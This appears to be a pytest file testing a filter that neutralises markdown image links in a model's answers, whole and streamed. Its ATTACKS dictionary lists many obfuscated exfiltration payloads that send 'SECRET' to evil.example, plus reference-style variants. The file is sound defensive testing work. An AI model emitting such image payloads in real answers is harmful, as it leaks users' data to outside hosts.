"""A model's answer cannot carry data out in a picture's address, however the markdown is written."""

import re
from typing import Any

import pytest

from tests.support.controls import controls, passage, prompt

SET = controls(hosts=frozenset({"good.example", ".cdn.example"}))
ATTACKS = {
    "plain": "![x](https://evil.example/?d=SECRET)",
    "spaces": "![x](    https://evil.example/?d=SECRET)",
    "newline": "![x](\nhttps://evil.example/?d=SECRET)",
    "angle": "![x](<https://evil.example/?d=SECRET>)",
    "title": '![x](https://evil.example/?d=SECRET "t")',
    "scheme-less": "![x](//evil.example/?d=SECRET)",
    "backslashes": "![x](/\\evil.example/?d=SECRET)",
    "upper": "![x](HTTPS://evil.example/?d=SECRET)",
    "entity": "![x](&#104;ttps://evil.example/?d=SECRET)",
    "nested brackets": "![a [b [c [d [e]]]]](https://evil.example/?d=SECRET)",
    "image in link": "[![x](https://evil.example/?d=SECRET)](https://good.example)",
    "empty alt": "![](https://evil.example/?d=SECRET)",
    "long alt": "![" + "x" * 500 + "](https://evil.example/?d=SECRET)",
    "userinfo": "![x](https://good.example@evil.example/?d=SECRET)",
    "backslash host": "![x](https://evil.example\\.cdn.example/?d=SECRET)",
    "entity host": "![x](https://evil.example&sol;.cdn.example/?d=SECRET)",
    "suffix": "![x](https://good.example.evil.example/?d=SECRET)",
    "data": "![x](data:image/svg+xml;base64,SECRET)",
    "other scheme": "![x](ftp://evil.example/SECRET)",
    "unclosed": "![x](https://evil.example/?d=SECRET",
    "looks like json": "{see} ![x](https://evil.example/?d=SECRET)",
    "double": "![x](https://evil.example/](https://evil.example/?d=SECRET)",
}
LIVE = re.compile(r"\]\(")


@pytest.mark.parametrize("name", ATTACKS)
def test_answer_makes_it_inert(name: str) -> None:
    """R-K1: no address that a viewer would fetch is left."""
    made = passage(prompt("x"), to="gpt")
    shaped: Any = SET.answer(made, {"choices": [{"message": {"content": f"See {ATTACKS[name]} ok"}}]})
    text = shaped["choices"][0]["message"]["content"]
    assert "SECRET" not in text
    assert "remote_image" in made.detected


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("size", [1, 5])
def test_stream_makes_it_inert(name: str, size: int) -> None:
    """R-K1: the same in pieces."""
    made = passage(prompt("x"), to="gpt")
    stream = SET.stream(made)
    text = f"See {ATTACKS[name]} ok"
    out = "".join(stream.feed("content", text[at : at + size]) for at in range(0, len(text), size)) + stream.finish("content")
    assert "SECRET" not in out
    assert "remote_image" in stream.detected


@pytest.mark.parametrize(
    "text",
    [
        "[1]: https://evil.example/?d=S",
        "[1]:\n  //evil.example/?d=S",
        "> [1]: <https://evil.example/?d=S>",
        "- [1]: &#104;ttps://evil.example",
    ],
)
def test_definitions_are_not_definitions_any_more(text: str) -> None:
    """R-K1: a picture by reference (`![x][1]`) finds no address."""
    made = passage(prompt("x"), to="gpt")
    shaped: Any = SET.answer(made, {"content": f"![x][1]\n\n{text}"})
    assert "]:" not in shaped["content"]
    stream = SET.stream(made)
    whole = f"![x][1]\n\n{text}"
    assert "]:" not in "".join(stream.feed("content", char) for char in whole) + stream.finish("content")


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://good.example/a.png)",
        "![logo](https://img.cdn.example/a.png)",
        "![local](./chart.png)",
        "![local](images/chart_1.png?x=1#a)",
        "[a link](https://anywhere.example/page?q=1)",
        "if (![1,2].includes(x)) { y[0](z) }",
        "#![allow(dead_code)] vec![1](2)",
        "dict[str, int]: and a[1]: 2",
    ],
)
def test_honest_text_stays(text: str) -> None:
    """R-K1: listed hosts, local pictures, links and code are left alone."""
    made = passage(prompt("x"), to="gpt")
    assert SET.answer(made, {"content": text}) == {"content": text}
    stream = SET.stream(made)
    assert "".join(stream.feed("content", char) for char in text) + stream.finish("content") == text


def test_a_brace_in_front_changes_nothing() -> None:
    """R-K1: text that begins like JSON is text all the same."""
    shaped: Any = SET.answer(passage(prompt("x"), to="gpt"), {"content": "{ ![x](https://evil.example/?d=SECRET)"})
    assert "SECRET" not in shaped["content"]


def test_what_a_model_hands_to_tools_stays() -> None:
    """R-K1: a README written through a tool keeps its pictures; they are labelled there, not changed."""
    text = "# x\n![badge](https://shields.example/b.svg)"
    content = {
        "content": [{"type": "tool_use", "input": {"content": text}}],
        "tool_calls": [{"function": {"arguments": '{"t": "![b](https://s.example/b)"}'}}],
    }
    made = passage(prompt("x"), to="gpt")
    assert SET.answer(made, content) == content
    stream = SET.stream(made)
    assert stream.feed("tool:0", text) + stream.finish("tool:0") == text
    read = passage({}, to="files/read")
    assert SET.answer(read, {"t": text}) == {"t": text}
    assert "remote_image" in read.detected
